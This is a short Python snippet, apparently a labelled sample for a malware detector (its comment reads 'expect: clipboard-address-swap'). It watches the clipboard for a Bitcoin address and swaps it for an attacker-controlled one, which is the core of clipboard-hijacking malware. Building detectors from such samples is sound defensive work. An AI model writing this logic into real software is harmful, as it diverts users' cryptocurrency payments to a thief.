import re
import pyperclip

# expect: clipboard-address-swap
text = pyperclip.paste()
if re.match("^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", text):
    pyperclip.copy(OURS)
